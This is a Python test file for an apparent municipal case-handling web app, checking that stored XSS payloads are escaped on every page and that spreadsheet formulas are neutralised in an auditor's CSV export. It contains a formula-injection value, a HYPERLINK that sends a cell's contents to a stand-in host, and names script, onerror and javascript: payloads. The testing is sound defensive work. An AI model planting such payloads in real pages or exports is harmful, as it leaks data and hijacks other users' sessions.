"""Stored XSS: a script payload in every text field, read back on every page that shows it.

Attack: a melder, AF, partner, chair or procesregisseur types ``<script>``, an ``onerror`` image, an
``onload`` SVG, a ``javascript:`` link and a template expression into every free-text field (melding,
task forms, agenda, minutes, saved filter, draft name, form title and help, deploy comment, process
name, documentation and instructions in an uploaded model, advice question), for others to open.
Expected refusal: every page that shows the text shows it escaped (``&lt;script&gt;``), never as markup,
and ``{{7*7}}`` stays text. Exports get the same treatment: no spreadsheet formula survives in the CSV.
The browser half (tests/security/test_xss_browser.py) proves that nothing executes.
"""

from __future__ import annotations

import csv
import io

from tests.support.werkbak import csrf_of, logged_in
from tests.support.xss_story import ESCAPED, RAW, build, pages


def test_every_page_shows_every_hostile_text_escaped(scene_app, chain):
    """Attack: stored payloads in every text field. Refusal: escaped on every page, never raw markup."""
    story = build(chain)
    clients = {}
    problems = []
    for who, path in pages(story):
        client = clients.get(who) or clients.setdefault(who, logged_in(scene_app, chain, *who))
        response = client.get(path)
        html = response.get_data(as_text=True)
        if response.status_code != 200:
            problems.append(f"{path} as {who[0]}: {response.status_code}")
            continue
        raw = [marker for marker in RAW if marker in html]
        if raw:
            problems.append(f"{path} as {who[0]}: raw markup {raw}")
        if ESCAPED not in html:
            problems.append(f"{path} as {who[0]}: the hostile text is not shown at all (the test would prove nothing)")
        if ">49<" in html:
            problems.append(f"{path} as {who[0]}: a template expression was evaluated")
    assert not problems, "\n".join(problems)


def test_a_formula_in_a_melding_stays_text_in_the_auditors_csv_export(scene_app, chain):
    """Attack: ``=HYPERLINK(...)`` in a melding, opened by the auditor in a spreadsheet.
    Refusal: every cell that starts with = + - @ is prefixed with a quote in the export."""
    formula = '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"klik")'
    chain.report("leeuwarden", omschrijving=formula)
    auditor = logged_in(scene_app, chain, "auditor", "leeuwarden")
    response = auditor.post("/audit/export", data={"van": "2026-03-01", "tot": "2026-03-31", "formaat": "csv",
                                                   "csrf_token": csrf_of(auditor, "/audit/export")})
    assert response.status_code == 200
    text = response.get_data().decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells), "the export contains the melding"
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], "a formula survived"
